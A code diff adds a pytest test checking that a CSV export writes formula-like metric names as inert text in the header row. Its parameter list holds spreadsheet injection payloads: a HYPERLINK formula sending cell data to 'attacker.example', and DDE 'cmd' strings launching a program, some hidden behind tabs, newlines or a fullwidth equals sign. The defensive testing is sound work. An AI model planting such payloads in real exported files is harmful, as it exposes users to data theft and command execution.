@@ -91,3 +91,25 @@ def test_ordinary_text_is_unchanged() -> None:
     cells = csv_row({"output_text": "a = b + c", "target": "'quoted'"}, [])
     assert "a = b + c" in cells
     assert "'quoted'" in cells
+
+
+@pytest.mark.parametrize(
+    "metric",
+    [
+        'x;=HYPERLINK("http://attacker.example/?q="&A1,"click")',
+        "a,+cmd|' /C calc'!A0",
+        "m|@SUM(1+1)",
+        "n\t=1+1",
+        "l\n-2+3+cmd|' /C calc'!A0",
+        "k; \uff1dHYPERLINK(1)",
+    ],
+)
+def test_a_formula_in_a_metric_name_is_written_as_text_in_the_header(metric: str) -> None:
+    """Metric names are a grader's choice and become ``score:NAME`` header cells."""
+    out = io.StringIO()
+    write_csv([{"sample_id": "s1", "status": "valid", "scores": {metric: 1.0}}], out, [metric])
+    header = next(csv.reader(io.StringIO(out.getvalue())))
+    column = next(h for h in header if h.startswith("score:"))
+    assert runnable_pieces(column) == [], column
+    assert column.replace("'", "") == f"score:{metric}".replace("'", "")
+    assert out.getvalue().split("\r\n", 1)[0].startswith('"')
